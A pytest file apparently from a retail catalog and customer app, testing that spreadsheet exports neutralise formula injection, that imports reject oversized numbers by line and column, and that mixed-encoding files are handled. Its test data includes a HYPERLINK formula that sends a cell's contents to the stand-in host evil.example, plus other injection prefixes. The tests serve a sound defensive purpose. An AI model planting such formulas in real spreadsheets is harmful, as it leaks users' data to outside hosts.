"""Spreadsheet files that try to harm or confuse (issue 13, "Bad input"): formulas, numbers out of range, mixed
encodings. Each problem gets a clear answer naming line and column; nothing is imported half-way."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from openpyxl import Workbook

from customer_support import add_brand, add_customer, write_csv
from lookbook.catalog.products import import_catalog
from lookbook.customers.csv_files import export_customers, import_customers
from lookbook.customers.purchases import import_purchases
from lookbook.store.database import Store
from lookbook.store.tabular import neutralise_cell, neutralised_row, restore_cell

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1", "-2", "@SUM(1)", "\tTabbed", "\rReturn",
            "=1+1", "'=already quoted", "''-two quotes"]


# -- formula injection -------------------------------------------------------------------------------


@pytest.mark.parametrize("value", [*FORMULAS, "O'Brien", "'", "plain", "", "Zoë"])
def test_neutralise_then_restore_gives_the_value_back(value: str) -> None:
    exported = neutralise_cell(value)
    assert restore_cell(str(exported)) == value
    assert str(exported)[:1] not in "=+-@\t\r" or value == ""


def test_numbers_stay_numbers_in_numeric_columns() -> None:
    assert neutralised_row(["-2", "-12.50", "+3", "-2", 7, -1.5], numeric={0, 1, 2, 4, 5}) == [
        "-2", "-12.50", "+3", "'-2", 7, -1.5]
    assert neutralise_cell("-2 + 3", numeric=True) == "'-2 + 3"  # not a plain number: text, neutralised


def test_customer_export_neutralises_formulas_and_import_reads_them_back(store: Store, tmp_path: Path) -> None:
    for i, value in enumerate(FORMULAS):
        add_customer(store, value.strip() or "x", last_name=value, notes=value, email=f"c{i}@example.com")
    path = tmp_path / "export.csv"
    assert export_customers(store, path, actor="t") == len(FORMULAS)
    with path.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    for row in rows:
        for column in ("first_name", "last_name", "notes"):
            assert row[column][:1] not in ("=", "+", "-", "@", "\t", "\r"), (column, row[column])
    assert rows[0]["last_name"] == "'" + FORMULAS[0] and rows[7]["notes"] == "''=already quoted"
    # Read back over the same book: every value stays as it was.
    want = store.db.execute("SELECT first_name, last_name, notes FROM customers ORDER BY id").fetchall()
    report = import_customers(store, path, actor="t")
    assert (report.updated, report.rejected) == (len(FORMULAS), 0)
    assert store.db.execute("SELECT first_name, last_name, notes FROM customers ORDER BY id").fetchall() == want


def test_catalog_import_reads_neutralised_cells_back_from_csv_and_xlsx(store: Store, tmp_path: Path) -> None:
    csv_path = write_csv(tmp_path / "c.csv", "sku,brand,name,category,size,qty,price\n"
                                             "A1,Acme,'=Shirt,shirt,M,3,\n"
                                             "A2,Acme,'Quoted,shirt,M,4,10\n")
    report = import_catalog(store, csv_path, actor="t")
    assert report.rows_kept == 2, report.problems
    names = [r[0] for r in store.db.execute("SELECT name FROM products ORDER BY sku")]
    assert names == ["=Shirt", "'Quoted"]
    book = Workbook()
    book.active.append(["sku", "brand", "name", "category", "size", "qty"])
    book.active.append(["A3", "Acme", "'@Dress", "dress", "S", 1])
    book.save(tmp_path / "c.xlsx")
    assert import_catalog(store, tmp_path / "c.xlsx", actor="t").rows_kept == 1
    assert store.db.execute("SELECT name FROM products WHERE sku = 'A3'").fetchone()[0] == "@Dress"


# -- numbers out of range: the dry run finds what the import would ----------------------------------------------


HUGE = "99999999999999999999"


def test_catalog_numbers_beyond_any_stock_or_price_are_rejected_by_line_and_column(store: Store,
                                                                                  tmp_path: Path) -> None:
    path = write_csv(tmp_path / "c.csv", "sku,brand,name,category,size,qty,price\n"
                                         f"A1,Acme,Shirt,shirt,M,{HUGE},10\n"
                                         f"A2,Acme,Dress,dress,S,2,{HUGE}\n"
                                         "A3,Acme,Skirt,skirt,S,1000001,10\n"
                                         "A4,Acme,Coat,outerwear,L,inf,10\n"
                                         "A5,Acme,Tee,t-shirt,M,3,12.50\n")
    preview = import_catalog(store, path, actor="t", dry_run=True)
    where = {(p.line, p.column) for p in preview.problems}
    assert where == {(2, "6 ('qty')"), (3, "7 ('price')"), (4, "6 ('qty')"), (5, "6 ('qty')")}
    assert preview.rows_kept == 1 and store.db.execute("SELECT count(*) FROM products").fetchone()[0] == 0
    report = import_catalog(store, path, actor="t")  # used to roll everything back with OverflowError
    assert [str(p) for p in report.problems] == [str(p) for p in preview.problems]
    assert [r[0] for r in store.db.execute("SELECT sku FROM products")] == ["A5"]
    assert "more than 1,000,000 units" in str(report.problems[0])


def test_catalog_dry_run_meets_whatever_the_import_would_meet(store: Store, tmp_path: Path) -> None:
    # A write refused by the database, whatever the reason, must show in the preview, not only in the import.
    store.db.execute("CREATE TEMP TRIGGER no_zed BEFORE INSERT ON products WHEN NEW.sku = 'ZED'"
                     " BEGIN SELECT RAISE(ABORT, 'refused by the library'); END")
    path = write_csv(tmp_path / "c.csv", "sku,brand,name,category,size,qty\nA1,Acme,Shirt,shirt,M,1\n"
                                         "ZED,Acme,Dress,dress,S,2\n")
    with pytest.raises(Exception, match="refused by the library"):
        import_catalog(store, path, actor="t", dry_run=True)
    assert store.db.execute("SELECT count(*) FROM products").fetchone()[0] == 0
    assert store.db.execute("SELECT count(*) FROM audit_log WHERE action = 'catalog.import'").fetchone()[0] == 0
    preview = import_catalog(store, write_csv(tmp_path / "ok.csv", "sku,brand,name,category,size,qty\n"
                                                                   "A1,Acme,Shirt,shirt,M,1\n"), actor="t",
                             dry_run=True)
    assert preview.new_products == ["A1"] and store.db.execute("SELECT count(*) FROM products").fetchone()[0] == 0
    assert store.db.execute("SELECT count(*) FROM audit_log WHERE action = 'catalog.import'").fetchone()[0] == 0


@pytest.mark.parametrize("dry_run", [True, False])
def test_customer_ids_beyond_sqlite_integers_are_rejected_by_line(store: Store, tmp_path: Path,
                                                                  dry_run: bool) -> None:
    path = write_csv(tmp_path / "c.csv", f"id,first_name,email\n{HUGE},Ana,ana@example.com\n"
                                         "²,Bea,bea@example.com\n,Cid,cid@example.com\n")
    report = import_customers(store, path, actor="t", dry_run=dry_run)
    assert [(p.line, p.column) for p in report.problems] == [(2, "id"), (3, "id")]
    assert report.added == 1


def test_purchase_dry_run_and_import_agree(store: Store, tmp_path: Path) -> None:
    add_brand(store, "Acme")
    add_customer(store, "Ana", email="ana@example.com")
    path = write_csv(tmp_path / "p.csv", "customer id,brand,date\n1,Acme,2026-01-02\n"
                                         f"{HUGE},Acme,2026-01-02\n²,Acme,2026-01-03\n")
    preview = import_purchases(store, path, actor="t", dry_run=True)
    assert store.db.execute("SELECT count(*) FROM purchases").fetchone()[0] == 0
    report = import_purchases(store, path, actor="t")
    assert (preview.added, preview.problems) == (report.added, report.problems) and report.added == 1
    assert [p.line for p in report.problems] == [3, 4]


# -- mixed encodings ------------------------------------------------------------------------------------------


def _mixed(path: Path, lines: list[tuple[str, str]]) -> Path:
    """Write lines each in its own encoding (what a file pasted together from two programs looks like)."""
    path.write_bytes(b"".join((text + "\n").encode(encoding) for text, encoding in lines))
    return path


def test_a_utf8_customer_file_with_a_latin1_line_keeps_the_rest_and_names_the_line(store: Store,
                                                                                  tmp_path: Path) -> None:
    path = _mixed(tmp_path / "c.csv", [("first name,last name,email", "utf-8"),
                                       ("José,Núñez,jose@example.com", "utf-8"),
                                       ("Zoë,Ødegård,zoe@example.com", "utf-8"),
                                       ("Renée,Lefèvre,renee@example.com", "cp1252"),
                                       ("Ana,Silva,ana@example.com", "utf-8")])
    report = import_customers(store, path, actor="t")
    names = [r[0] for r in store.db.execute("SELECT first_name || ' ' || last_name FROM customers ORDER BY id")]
    assert names == ["José Núñez", "Zoë Ødegård", "Ana Silva"]  # never 'JosÃ©'
    assert [p.line for p in report.problems] == [4] and "not UTF-8" in report.problems[0].reason
    assert report.encoding == "UTF-8" and "line 4" in str(report.encoding_note) and report.rows_read == 4


def test_a_latin1_file_with_a_utf8_line_is_latin1_and_names_the_line(store: Store, tmp_path: Path) -> None:
    path = _mixed(tmp_path / "c.csv", [("first name,last name,email", "cp1252"),
                                       ("José,Núñez,jose@example.com", "cp1252"),
                                       ("Zoë,Ødegård,zoe@example.com", "cp1252"),
                                       ("Renée,Lefèvre,renee@example.com", "utf-8"),
                                       ("Ana,Silva,ana@example.com", "cp1252")])
    report = import_customers(store, path, actor="t")
    names = [r[0] for r in store.db.execute("SELECT first_name || ' ' || last_name FROM customers ORDER BY id")]
    assert names == ["José Núñez", "Zoë Ødegård", "Ana Silva"]  # never 'RenÃ©e'
    assert [p.line for p in report.problems] == [4] and "another encoding" in report.problems[0].reason
    assert "Windows-1252" in report.encoding


def test_catalog_and_purchase_files_report_undecodable_lines_too(store: Store, tmp_path: Path) -> None:
    path = _mixed(tmp_path / "c.csv", [("sku,brand,name,category,size,qty", "utf-8"),
                                       ("A1,Maison Émile,Chemise,shirt,M,1", "utf-8"),
                                       ("A2,Maison Émile,Robe d'été,dress,S,2", "cp1252"),
                                       ("A3,Maison Émile,Jupe,skirt,S,3", "utf-8")])
    for dry_run in (True, False):
        report = import_catalog(store, path, actor="t", dry_run=dry_run)
        assert [(p.line, p.reason[:30]) for p in report.problems] == [(3, "this line is not UTF-8 like th")]
        assert (report.rows_read, report.rows_kept) == (3, 2)
    assert [r[0] for r in store.db.execute("SELECT name FROM brands")] == ["Maison Émile"]
    add_customer(store, "Ana", email="ana@example.com")
    purchases = _mixed(tmp_path / "p.csv", [("email,brand,date", "utf-8"), ("ana@example.com,Maison Émile,2026-01-02",
                                                                             "utf-8"),
                                            ("ana@example.com,Maison Émile,2026-01-03", "cp1252")])
    report = import_purchases(store, purchases, actor="t")
    assert report.added == 1 and [p.line for p in report.problems] == [3]
